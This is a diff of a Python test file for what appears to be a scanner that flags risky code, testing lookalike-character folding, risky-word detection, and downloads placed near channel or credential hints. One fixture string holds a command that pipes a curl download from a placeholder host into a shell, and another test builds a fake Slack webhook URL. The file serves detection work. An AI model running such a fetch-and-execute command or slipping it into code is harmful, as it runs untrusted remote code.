@@ -80,7 +80,7 @@ def test_every_character_that_ignoring_case_makes_an_ascii_letter_is_folded() ->
     assert len(stand_ins) == 4  # the long s, the dotless and dotted I, the Kelvin sign
     host = "hooks.slack.com/services/"
     for char in stand_ins:
-        folded = char.lower().translate(text._ASCII_FOLD)
+        folded = text.ascii_fold(char.lower())
         assert len(folded) == 1 and folded in host, repr(char)
         written = host.replace(folded, char, 1)
         url = f"https://{written}T0123456/B0123456/q8VdK2xLm4NpR7sT1wYb3ZcE"
@@ -149,6 +149,15 @@ def test_each_risky_word_makes_a_file_risky(word: str) -> None:
     assert quick_risky(f"{word}\nx = 1\n")
     assert quick_risky("x = 1\n" * 1000 + f"y = 'a{word}b'")
     assert not quick_risky("x = 1\n" + word[:-1] + "\n" + word[1:])
+
+
+@pytest.mark.parametrize("hint", [*patterns.ENDPOINT_HINTS, *patterns.CREDENTIAL_HINTS])
+def test_a_download_beside_each_channel_or_secret_hint_is_risky(hint: str) -> None:
+    """The one search for the places of channels and secrets finds each of them,
+    in any case, beside a download."""
+    fetch = "import requests\nrequests.get(url)\n"
+    assert quick_risky(fetch + "x = 1\n" * 500 + f"y = 'a{hint.upper()}b'\n")
+    assert not quick_risky(fetch + "y = 'nothing sent, no secret'\n")
 
 
 _NESTED = "PAYLOAD = \"import os; os.system('curl -s https://x.invalid/a | sh')\""
